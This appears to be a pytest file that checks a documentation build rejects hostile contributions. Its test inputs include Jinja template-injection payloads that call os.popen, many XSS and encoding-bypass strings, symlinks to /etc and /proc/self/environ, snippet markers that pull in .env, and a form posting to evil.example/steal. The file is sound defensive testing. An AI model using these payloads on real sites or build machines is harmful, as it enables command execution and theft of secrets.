"""What a contribution to docs/ can publish or run: only pages and checked pictures are published
(macros/docs_files.py), and a page template may use only the Jinja the book's pages need
(macros/page_macros.py) — Jinja reaches Python through attributes, so a page could run commands on the
machine that builds the book."""

from __future__ import annotations

from pathlib import Path

import pytest

from macros.docs_files import docs_file_problems
from macros.loader import load_book
from macros.docs_files import raw_html_problems
from macros.page_macros import check_pages, renders_macros, template_problems

ROOT = Path(__file__).resolve().parent.parent
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><path d="M0 0L9 9"/></svg>'

# Each published as it is, on the book's address and with no Content-Security-Policy.
REFUSED = {
    "CNAME": b"evil.example\n",
    "_redirects": b"/* https://evil.example 301\n",
    "login.html": b"<!doctype html><script>document.title = 'ran'</script>",
    "assets/images/frame.xhtml": b'<html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>',
    "assets/images/run.js": b"alert(1)",
    "assets/javascripts/deep/run.js": b"alert(1)",
    "assets/stylesheets/page.html": b"<script>1</script>",
    "assets/feed.xml": b"<rss/>",
    "notes.txt": b"text",
}
ALLOWED = {
    "index.md": b"# Home",
    "sub/page.md": b"# Page",
    "assets/images/a.svg": SVG,
    "assets/images/b.png": b"\x89PNG\r\n\x1a\n" + b"\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0" + b"\0" * 20,
    "assets/javascripts/book.js": b"1",
    "assets/stylesheets/book.css": b"a {}",
    "assets/vendor/lib/lib.min.js": b"1",
    "assets/vendor/lib/LICENSE": b"MIT",
    "assets/vendor/lib/VERSION": b"1.0",
    ".htaccess": b"MkDocs never publishes a dotfile",
    "assets/.nojekyll": b"",
}


def _docs(tmp_path: Path, files: dict[str, bytes]) -> Path:
    docs = tmp_path / "docs"
    for name, content in files.items():
        (docs / name).parent.mkdir(parents=True, exist_ok=True)
        (docs / name).write_bytes(content)
    return docs


def test_docs_hold_pages_pictures_and_the_books_code_only(tmp_path):
    docs = _docs(tmp_path, {**ALLOWED, **REFUSED})
    problems = docs_file_problems(docs)
    assert sorted(problem.path for problem in problems) == sorted(f"docs/{name}" for name in REFUSED)
    login = next(problem for problem in problems if problem.path == "docs/login.html")
    assert str(login).startswith("docs/login.html:1:1: a '.html' file would be published as it is")
    assert "pages (.md) and pictures (.svg, .png, .jpg, .jpeg, .webp)" in login.hint


def test_a_symlink_anywhere_in_docs_is_refused(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOKEN=x")
    docs = _docs(tmp_path, {"index.md": b"# Home", "assets/images/a.svg": SVG})
    (docs / "assets" / "images" / "leak.svg").symlink_to(secret)
    (docs / "assets" / "environ.md").symlink_to("/proc/self/environ")
    (docs / "assets" / "etc").symlink_to("/etc", target_is_directory=True)
    assert [str(problem) for problem in docs_file_problems(docs)] == [
        f"docs/{name}:1:1: is a symbolic link: the build would publish what it points at — "
        "put the file itself here, not a link to it"
        for name in ("assets/etc", "assets/environ.md", "assets/images/leak.svg")]


def test_a_picture_nobody_names_is_checked_like_one_that_is_named(tmp_path):
    docs = _docs(tmp_path, {"assets/images/x.svg": SVG.replace(b"<path", b"<script>1</script><path")})
    [problem] = docs_file_problems(docs)
    assert problem.path == "docs/assets/images/x.svg" and "<script> is not allowed" in problem.message


def test_the_books_own_docs_folder_passes():
    assert docs_file_problems(ROOT / "docs") == []


# Jinja reaches Python through attributes: each of these ran a command when the book was built.
TEMPLATE_ATTACKS = {
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}":
        "calling anything but one of the book's macros by its name",
    "{{ entity_link.__globals__ }}": "the attribute '__globals__'",
    "{{ lipsum | attr('__globals__') }}": "the template syntax 'Filter'",
    "{{ config.plugins }}": "'config.plugins'",
    "{{ config['plugins'] }}": "the template syntax 'Getitem'",
    "{{ config }}": "the name 'config' on its own",
    "{% for x in range(3) %}{% endfor %}": "the template syntax 'For'",
    "{% include 'mkdocs.yml' %}": "the template syntax 'Include'",
    "{% set entity_link = book_counts() %}": "setting 'entity_link'",
    "{{ entity_link(page.title) }}": "an argument of entity_link() that is not a quoted value or a number",
    "{{ book_counts()._asdict }}": "the attribute '_asdict'",
    # A quoted value written out assembles HTML that no check of the page's text sees: `{{ '<scr' }}ipt>`
    # and `{{ 'on' }}error=` reached the built page (only its policy stopped them from running).
    "{{ '<scr' }}ipt>alert(1)</script>": "writing a value into the page (`{{ 'text' }}`)",
    "<img src=x {{ 'on' }}error=alert(1)>": "writing a value into the page (`{{ 'text' }}`)",
    "{{ 'text'.upper }}": "the attribute 'upper' of a quoted value",
    "{% set handler = 'on' %}<img src=x {{ handler }}error=alert(1)>":
        "setting a name to anything but a macro's result",
}

# A quoted argument as the macro receives it: Jinja decodes `\x3c` to '<' and `\x22` to '"'.
ESCAPED_ARGUMENTS = {
    "{{ download_link('soft-tissue-calcification.apkg', '\\x3cimg src=x onerror=alert(1)\\x3e') }}":
        "'onerror=' would be written into the page as it is",
    "{{ entity_link('gout', '\\x3cscript\\x3ealert(1)') }}": "'<script' would be written into the page as it is",
    "{{ download_link('x\\x22 onmouseover\\x3dalert(1)', 'Data') }}":
        "'onmouseover=' would be written into the page as it is",
}


# Jinja drops its comments and tags: HTML split by one meets in the page mkdocs-macros writes.
GLUED_BY_THE_TEMPLATE = {
    '<me{## ##}ta http-equiv="refresh" content="0;url=https://example.com">': "'<meta' would be written",
    '<p s{% if book_counts() %}{% endif %}tyle="position:fixed">Log in</p>': "'style=' would change",
    "<img src=x on{##\n##}error=alert(1)>": "'onerror=' would be written",
    "![x](ht{## ##}tps://example.com/x.png)": "'![x](https://example.com/x.png' would load",
}


@pytest.mark.parametrize("text, what", GLUED_BY_THE_TEMPLATE.items(), ids=list(GLUED_BY_THE_TEMPLATE))
def test_html_a_template_glues_together_is_refused(text, what):
    [problem] = template_problems("docs/page.md", f"# Page\n\n{text}\n")
    assert problem.line == 3 and problem.message.startswith(what)


@pytest.mark.parametrize("text, what", ESCAPED_ARGUMENTS.items(), ids=list(ESCAPED_ARGUMENTS))
def test_a_quoted_argument_is_checked_as_the_macro_receives_it(text, what):
    [problem] = template_problems("docs/page.md", f"# Page\n\n{text}\n")
    assert problem.line == 3 and problem.message == what


@pytest.mark.parametrize("text, what", TEMPLATE_ATTACKS.items(), ids=list(TEMPLATE_ATTACKS))
def test_a_page_template_may_not_reach_python(text, what):
    [problem] = template_problems("docs/page.md", f"# Page\n\n{text}\n")
    assert str(problem) == (f"docs/page.md:3:1: {what} is not allowed in a page — a page may only call the "
                            "book's macros with quoted arguments, e.g. `{{ entity_link('gout') }}`, read "
                            "`config.extra.book.version`, and use `{% set %}` and `{% if %}` over those; "
                            "ask a maintainer for anything more")


def test_the_books_own_pages_use_only_the_allowed_template_syntax():
    pages = [path for path in (ROOT / "docs").rglob("*.md") if renders_macros(path.read_text("utf-8-sig"))]
    assert len(pages) >= 5
    assert {path.name: template_problems(path.name, path.read_text("utf-8-sig")) for path in pages} == \
        {path.name: [] for path in pages}


# Each of these pages mkdocs-macros renders; the check once read only `render_macros: true` exactly,
# in a top-level page whose first line was `---\n`.
@pytest.mark.parametrize("name, text", [
    ("page.md", "---\nrender_macros: yes\n---\n"), ("page.md", "---\nrender_macros: 1\n---\n"),
    ("page.md", "---\r\nrender_macros: true\r\n---\r\n"), ("page.md", "\ufeff---\nrender_macros: True\n---\n"),
    ("sub/page.md", "---\nrender_macros: true\n---\n")])
def test_every_page_mkdocs_macros_renders_is_checked(valid_data, name, text):
    page = valid_data.parent / "docs" / name
    page.parent.mkdir(parents=True, exist_ok=True)
    page.write_bytes(f"{text}# Page\n{{{{ cycler.__init__ }}}}\n".encode())
    [problem] = check_pages(load_book(valid_data))
    assert problem.path == f"docs/{name}" and problem.message == "the attribute '__init__' is not allowed in a page"


def test_the_hook_checks_the_text_mkdocs_macros_is_about_to_render():
    """Whatever check_pages made of a page's file, the build checks the Markdown and title it renders."""
    import importlib.util
    from types import SimpleNamespace

    from mkdocs.exceptions import PluginError

    spec = importlib.util.spec_from_file_location("generate_pages", ROOT / "overrides" / "hooks" / "generate_pages.py")
    hook = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(hook)
    page = SimpleNamespace(file=SimpleNamespace(generated_by=None, src_uri="about.md"),
                           meta={"render_macros": True}, title="{{ cycler.__init__ }}")
    with pytest.raises(PluginError, match=r"docs/about.md:1:1: the attribute '__init__' is not allowed"):
        hook.on_page_markdown("# About\n", page, None, None)
    page.title = "About"
    assert hook.on_page_markdown("# About\n{{ entity_link('gout') }}\n", page, None, None).startswith("# About")
    page.meta = {}  # not a template: its text is not code
    assert hook.on_page_markdown("{{ cycler.__init__ }}", page, None, None) == "{{ cycler.__init__ }}"


def test_the_build_refuses_a_hostile_page_and_files_before_running_anything(tmp_path):
    from projects import book_project, quiet_strict_build

    config = book_project(tmp_path / "project")
    docs, marker = config.parent / "docs", tmp_path / "ran"
    about = docs / "about.md"
    about.write_text(about.read_text(encoding="utf-8").replace("---\n", "---\nrender_macros: yes\n", 1)
                     + f"\n{{{{ cycler.__init__.__globals__.os.popen('touch {marker}').read() }}}}\n",
                     encoding="utf-8")
    (docs / "CNAME").write_text("evil.example\n")
    (docs / "assets" / "images" / "frame.html").write_text("<script>parent.document.title = 1</script>")
    (docs / "assets" / "images" / "leak.svg").symlink_to("/etc/hostname")
    (docs / "how-to-use.md").write_text("# How\n\n![Tracker](https://evil.example/pixel.png)\n", encoding="utf-8")
    shapes = docs / "shapes.md"
    shapes.write_text(shapes.read_text(encoding="utf-8") + "\n{{ '<scr' }}ipt>document.title = 1</script>\n",
                      encoding="utf-8")
    result = quiet_strict_build(config, tmp_path / "site")
    output = result.stdout + result.stderr
    assert result.returncode != 0 and not marker.exists(), output
    lines = about.read_text(encoding="utf-8").count("\n")
    for expected in [f"docs/about.md:{lines}:1: calling anything but one of the book's macros by its name",
                     "docs/CNAME:1:1: a 'CNAME' file would be published as it is",
                     "docs/assets/images/frame.html:1:1: a '.html' file would be published as it is",
                     "docs/assets/images/leak.svg:1:1: is a symbolic link",
                     "docs/how-to-use.md:3:1: '![Tracker](https://evil.example/pixel.png' would load a file "
                     "from outside the book",
                     f"docs/shapes.md:{shapes.read_text(encoding='utf-8').count(chr(10))}:1: writing a value "
                     "into the page (`{{ 'text' }}`) is not allowed in a page"]:
        assert expected in output, output
    assert not (tmp_path / "site" / "CNAME").exists()


# Raw HTML in a hand-written page the Content-Security-Policy does not stop: the refresh sent a reader
# of the built about page to another address (chromium landed on it); or HTML that would load code.
ACTIVE_HTML = {
    '<meta http-equiv="refresh" content="0;url=https://evil.example">': "'<meta'",
    '<form action="https://evil.example/steal"><input name=q></form>': "'<form'",
    '<iframe src="../assets/images/a.svg"></iframe>': "'<iframe'",
    '<script src="../assets/javascripts/book.js"></script>': "'<script'",
    '<img src="x" onerror="alert(1)">': "'onerror='",
    "[Click](javascript:alert(1))": "'javascript:'",
    '<a href="data:text/html,<script>1</script>">x</a>': "'data:text/html'",
    # A handler after no space: HTML and attr_list read an attribute name after `/`, a quote or `{`.
    '<img src="x"onerror="alert(1)">': "'onerror='",
    '<span/onclick="alert(1)">x</span>': "'onclick='",
    '[Link](index.md){onmouseover="alert(1)"}': "'onmouseover='",
    # An address as the browser reads it: references decoded, tabs dropped.
    '<a href="jav&#x61;script:alert(1)">x</a>': "'jav&#x61;script:'",
    '<a href="java&#9;script:alert(1)">x</a>': "'java&#9;script:'",
    '<a href="data&colon;text/html,x">x</a>': "'data&colon;text/html'",
}


@pytest.mark.parametrize("html, shown", ACTIVE_HTML.items(), ids=list(ACTIVE_HTML))
def test_active_html_in_a_hand_written_page_is_refused_on_its_line(valid_data, html, shown):
    (valid_data.parent / "docs" / "page.md").write_text(f"# Page\n\nText.\n{html}\n", encoding="utf-8")
    problems = check_pages(load_book(valid_data))
    assert problems and all(problem.path == "docs/page.md" and problem.line == 4 for problem in problems)
    assert problems[0].message == f"{shown} would be written into the page as it is"


# What a page would load from outside the book (the policy's img-src 'self' is the only other guard),
# or attributes that change the page's workings: each refused on its line, shown as written.
LOADED_OR_RESTYLED = {
    "![X-ray](https://evil.example/x.png)": "'![X-ray](https://evil.example/x.png' would load a file",
    "![X-ray](//evil.example/x.png)": "'![X-ray](//evil.example/x.png' would load a file",
    "![X-ray](data:image/png;base64,AAAA)": "'![X-ray](data:image/png;base64,AAAA' would load a file",
    "![X [a [b [c [d [e]]]]]](data:image/png;base64,AAAA)": "'](data:image/png;base64,AAAA' would load a file",
    '<img src="https://evil.example/x.png" alt="">': "'src=\"https://evil.example/x.png\"' would load a file",
    "<img src=&#104;ttps://evil.example/x.png>": "'src=&#104;ttps://evil.example/x.png' would load a file",
    '<video poster="https://evil.example/x.png"></video>': "'poster=\"https://evil.example/x.png\"' would load",
    '![X-ray](assets/images/a.svg){src="https://evil.example/x.png"}': "'src=\"https://evil.example/x.png\"'",
    "![X-ray][plain]\n\n[plain]: https://evil.example/x.png": "'[plain]: https://evil.example/x.png' would load",
    '[Text]{style="background:url(https://evil.example/x.png)"}': "'style=' would change how the page",
    '<img srcset="a.png 1x, https://evil.example/x.png 2x">': "'srcset=' would change how the page",
    "## Settings {#__config}": "'{#__config}' would change how the page looks or works",
    '<div id="&#95;_config"></div>': "'id=\"&#95;_config\"' would change how the page looks or works",
}


@pytest.mark.parametrize("markdown, shown", LOADED_OR_RESTYLED.items(), ids=list(LOADED_OR_RESTYLED))
def test_a_page_may_not_load_from_elsewhere_or_restyle_itself(valid_data, markdown, shown):
    (valid_data.parent / "docs" / "page.md").write_text(f"# Page\n\nText.\n{markdown}\n", encoding="utf-8")
    problems = check_pages(load_book(valid_data))
    assert len(problems) == 1 and problems[0].path == "docs/page.md", problems
    assert problems[0].line == 4 + markdown.count("\n") * ("[plain]:" in markdown)
    assert problems[0].message.startswith(shown)


# Spellings Python-Markdown reads as an image too: an alt over two lines or with brackets in brackets,
# a space before the reference, a reference defined in an admonition or a quote, and a control
# character before the scheme (the browser drops it).
IMAGES_AS_MARKDOWN_READS_THEM = [
    "![X-ray of\nthe knee](data:image/png;base64,AAAA)",
    "![X-ray [knee [left]]](data:image/png;base64,AAAA)",
    "![X-ray] [evil]\n\n[evil]: data:image/png;base64,AAAA",
    "!!! note\n    ![X-ray][evil]\n\n    [evil]: data:image/png;base64,AAAA",
    "> ![X-ray][evil]\n>\n> [evil]: data:image/png;base64,AAAA",
    "![X-ray](\x01data:image/png;base64,AAAA)",
    '<img src="\x01data:image/png;base64,AAAA">',
]


@pytest.mark.parametrize("markdown", IMAGES_AS_MARKDOWN_READS_THEM)
def test_an_image_is_found_however_markdown_allows_it_to_be_written(markdown):
    import markdown as python_markdown

    assert 'src="\x01data:' in python_markdown.markdown(markdown, extensions=["admonition"]) or \
        'src="data:' in python_markdown.markdown(markdown, extensions=["admonition"])
    problems = raw_html_problems("docs/page.md", f"# Page\n\n{markdown}\n")
    assert [problem.message.endswith("would load a file from outside the book") for problem in problems] == [True]


def test_a_page_may_link_elsewhere_and_show_its_own_pictures(valid_data):
    (valid_data.parent / "docs" / "page.md").write_text(
        "# Page {#page}\n\n[A site](https://example.org) [Ref][r]\n\n![X-ray](assets/images/a.svg)\n"
        "[Home](index.md){ .md-button #home-button }\n\n[r]: https://example.org/ref\n", encoding="utf-8")
    assert check_pages(load_book(valid_data)) == []


def test_a_hand_written_page_cannot_pull_a_file_of_the_build_machine_into_the_site(tmp_path):
    """A snippet marker (`--8<-- ".env"`) made pymdownx.snippets copy any file under the project
    folder into the page: an ignored `.env`, `.git/config`, the virtualenv. No page uses snippets."""
    from projects import book_project, quiet_strict_build

    config = book_project(tmp_path / "project")
    (config.parent / ".env").write_text("BUILD_SECRET=leaked-by-a-snippet\n", encoding="utf-8")
    about = config.parent / "docs" / "about.md"
    about.write_text(about.read_text(encoding="utf-8") + '\n--8<-- ".env"\n\n;--8<-- "mkdocs.yml"\n',
                     encoding="utf-8")
    result = quiet_strict_build(config, tmp_path / "site")
    assert result.returncode == 0, result.stdout + result.stderr
    page = (tmp_path / "site" / "about" / "index.html").read_text(encoding="utf-8")
    assert "leaked-by-a-snippet" not in page and "site_name:" not in page
    assert "--8&lt;--" in page or '--8<-- ".env"' in page  # shown as the text it is


def test_a_download_link_names_one_of_the_books_downloads(valid_data):
    (valid_data.parent / "docs" / "page.md").write_text(
        "---\nrender_macros: true\n---\n# Page\n\n{{ download_link('soft-tissue-calcification.jsn', 'Data') }}\n",
        encoding="utf-8")
    [problem] = check_pages(load_book(valid_data))
    assert str(problem) == ("docs/page.md:6:1: download_link: 'soft-tissue-calcification.jsn' is not a download "
                            "of the book — did you mean `soft-tissue-calcification.json`?")


@pytest.mark.parametrize("html", ["<p>x</p><script>document.title = 1</script>",
                                  "<SCRIPT\ntype=module>document.title = 1</SCRIPT>",
                                  '<script data-src="x.js">document.title = 1</script>',
                                  '<script title=" src=x">document.title = 1</script>'])
def test_the_build_stops_on_an_inline_script_in_a_pages_text(html):
    """Whatever way round the page and data checks it took, an inline script in a page's text is never
    published: the book's text writes none (page_script() loads a file)."""
    import importlib.util
    from types import SimpleNamespace

    from mkdocs.exceptions import PluginError

    spec = importlib.util.spec_from_file_location("generate_pages", ROOT / "overrides" / "hooks" / "generate_pages.py")
    hook = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(hook)
    page = SimpleNamespace(file=SimpleNamespace(src_uri="about.md"), url="about/")
    with pytest.raises(PluginError, match=r"^about.md: the page's text holds an inline <script>"):
        hook.on_page_content(html, page, None, None)
    assert "finder.js" in hook.on_page_content('<p>x</p><script src="../finder.js"></script>', page, None, None)


@pytest.mark.parametrize("markdown", ["Text\n{ #&#95;_config }", "# Settings { #&#95;_search }",
                                      "<p id=&#95;_search>x</p>"])
def test_the_build_stops_on_an_id_of_the_theme_in_a_pages_text(markdown):
    """Material's script reads the first element with id `__config` (and `__search`, …): attr_list
    keeps `&#95;` in an id for the browser to decode, past the page check, so no page's text may hold
    an id starting with `_`, however it got there."""
    import importlib.util
    from types import SimpleNamespace

    import markdown as python_markdown
    from mkdocs.exceptions import PluginError

    spec = importlib.util.spec_from_file_location("generate_pages", ROOT / "overrides" / "hooks" / "generate_pages.py")
    hook = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(hook)
    page = SimpleNamespace(file=SimpleNamespace(src_uri="about.md"), url="about/")
    html = python_markdown.markdown(markdown, extensions=["attr_list", "toc", "md_in_html"])
    with pytest.raises(PluginError, match=r"^about.md: the page's text gives an element the id '__"):
        hook.on_page_content(html, page, None, None)
    assert hook.on_page_content('<h1 id="config_">x</h1>', page, None, None)


def _page_macros(page_url="about/"):
    """The macros define_env gives the pages, called as mkdocs-macros calls them."""
    from types import SimpleNamespace

    from macros import define_env

    macros = {}
    env = SimpleNamespace(conf={"config_file_path": str(ROOT / "mkdocs.yml"), "docs_dir": str(ROOT / "docs")},
                          page=SimpleNamespace(url=page_url), macro=lambda function: macros.setdefault(
                              function.__name__, function))
    define_env(env)
    return macros


def test_download_link_and_page_script_write_only_the_books_files():
    """What CHANGELOG promises of the two macros that write HTML: the text is escaped, and only a
    download of the book or one of its scripts is linked, whatever reached the macro."""
    from macros.file_names import DOWNLOAD_NAMES

    macros = _page_macros()
    assert macros["download_link"](DOWNLOAD_NAMES[0], '<img src=x onerror="alert(1)">') == (
        f'<a href="../downloads/{DOWNLOAD_NAMES[0]}" download>'
        "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;</a>")
    with pytest.raises(ValueError, match="is not a download of the book"):
        macros["download_link"]('x" onmouseover="alert(1)', "Data")
    for path in ('assets/javascripts/x.js" onload="alert(1)', "assets/javascripts/../../x.js",
                 "https://evil.example/x.js"):
        with pytest.raises(ValueError, match="is not one of the book's scripts"):
            macros["page_script"](path)
